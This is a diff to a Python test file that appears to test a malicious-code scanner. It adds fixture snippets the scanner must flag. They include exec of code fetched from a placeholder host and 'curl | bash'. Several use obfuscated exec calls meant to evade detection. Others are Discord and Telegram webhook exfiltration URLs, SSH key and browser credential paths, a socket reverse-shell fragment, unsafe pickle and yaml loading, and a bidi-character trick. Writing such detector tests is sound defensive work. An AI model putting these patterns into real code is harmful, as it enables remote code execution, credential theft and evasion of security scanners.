@@ -30,6 +30,12 @@ BAD = {
         "import requests\nexec(requests.get('http://x').text)",
         "from urllib.request import urlopen\ncode = urlopen('http://x').read()\nexec(compile(code, 'x', 'exec'))",
         "import requests as r\na = r.get('http://x')\nb = a.text\neval(b)",
+        "import os\nos.system('curl -s http://x/a.sh | bash')",
+        "import requests\nrun = exec\nrun(requests.get('http://x').text)",
+        "import requests\ngetattr(__builtins__, 'ex' + 'ec')(requests.get('http://x').text)",
+        "import requests\n__builtins__['exec'](requests.get('http://x').text)",
+        "import builtins, urllib.request as u\nvars(builtins)['eval'](u.urlopen('http://x').read())",
+        "import requests\ndef text():\n    return requests.get('http://x').text\ndef run():\n    exec(text())",
     ],
     "CN102": ["def f(expression):\n    return eval(expression)"],
     "CN103": [
@@ -37,14 +43,27 @@ BAD = {
         "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'x'])",
         "import subprocess\ncommand = ['uv', 'pip', 'install', 'x']\nsubprocess.run(command)",
         "import pip\npip.main(['install', 'x'])",
+        "import subprocess, sys\nc = [sys.executable, '-m', 'pip']\nc += ['install', 'x']\nsubprocess.run(c)",
+        "__import__('os').system('pip install x')",
+        "import importlib\nimportlib.import_module('o' + 's').system('pip install x')",
+        "import subprocess\nrun = subprocess.run\nrun(['pip', 'install', 'x'])",
     ],
     "CN104": [
         "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
         "import zlib, marshal\nexec(marshal.loads(zlib.decompress(b'x')))",
         "import base64 as b\ntext = b.b64decode('eA==')\nexec(text)",
+        "import base64\nd = base64.b64decode\nexec(d('eA=='))",
+        "exec(bytes.fromhex('78').decode())",
+        "exec(''.join(map(chr, [112, 114])))",
+        "import marshal, types\ntypes.FunctionType(marshal.loads(b'x'), globals())()",
     ],
     "CN105": [f"x = '{'QUJD' * 30000}'", f"x = b'{'a' * 120000}'"],
-    "CN106": ["URL = 'https://discord.com/api/webhooks/1/x'", "URL = 'https://api.telegram.org/bot1:x/send'"],
+    "CN106": [
+        "URL = 'https://dis' + 'cord.com/api/web' + 'hooks/1/x'",
+        "URL = ''.join(['https://discord', '.com/api/webhooks/1'])",
+        "URL = 'https://discord.com/api/webhooks/1/x'",
+        "URL = 'https://api.telegram.org/bot1:x/send'",
+    ],
     "CN107": [
         "p = '~/.ssh/id_rsa'",
         "import os\np = os.path.join(os.environ['LOCALAPPDATA'], 'Google/Chrome/User Data/Default/Login Data')",
@@ -55,13 +74,22 @@ BAD = {
         "open('/etc/hosts', 'w')",
         "import shutil\nshutil.rmtree('/usr')",
         "import os\nopen(os.path.expanduser('~/x'), 'a')",
+        "import os\nplace = os.path.expanduser('~/x')\nopen(place, 'w')",
+        "from pathlib import Path\n(Path.home() / '.profile').write_text('x')",
     ],
     "CN110": [
         "import os\ndef f(name):\n    os.system('convert ' + name)",
         "import subprocess\ndef f(c):\n    subprocess.run(c, shell=True)",
     ],
     "CN111": ["import pickle, requests\npickle.loads(requests.get('http://x').content)"],
-    "CN112": ["import pickle\npickle.load(open('x', 'rb'))", "import torch\ntorch.load('x', weights_only=False)"],
+    "CN112": [
+        "import yaml\ndef f(p):\n    return yaml.load(p, Loader=yaml.Loader)",
+        "import numpy as np\ndef f(p):\n    return np.load(p, allow_pickle=True)",
+        "import pickle\npickle.load(open('x', 'rb'))",
+        "import torch\ntorch.load('x', weights_only=False)",
+    ],
+    "CN114": ["import os, socket\ns = socket.socket()\ns.connect(('x', 1))\nos.dup2(s.fileno(), 0)"],
+    "CN115": ["allowed = False  # \u202e true \u202c"],
     "CN113": ["import requests\nLIST = requests.get('http://x')"],
 }
 
@@ -203,3 +231,19 @@ def test_the_page_of_rules_says_what_the_rules_say() -> None:
         assert f"### {rule.id}: {rule.title} {rule.severity}. {rule.why} *{rule.fix}*" in text
         assert rule.severity in SEVERITIES
     assert set(re.findall(r"### (CN\d+)", PAGE.read_text(encoding="utf-8"))) == set(RULES)
+
+
+@pytest.mark.parametrize(
+    "deep",
+    [
+        "x = " + " + ".join(["'a'"] * 1500),
+        "x = a" + ".b" * 1500,
+        "x = a" + ".b()" * 300,
+        "x = " + "f(" * 80 + ")" * 80,
+        "x = " + " + ".join(["f()"] * 1500),
+    ],
+    ids=["texts", "attributes", "calls", "nested", "sums"],
+)
+def test_deep_code_hides_nothing_beside_it(deep: str, tmp_path: Path) -> None:
+    code = f"{deep}\nimport requests\nexec(requests.get('http://x').text)\n"
+    assert ("CN101", 3) in found(pack(tmp_path, code))
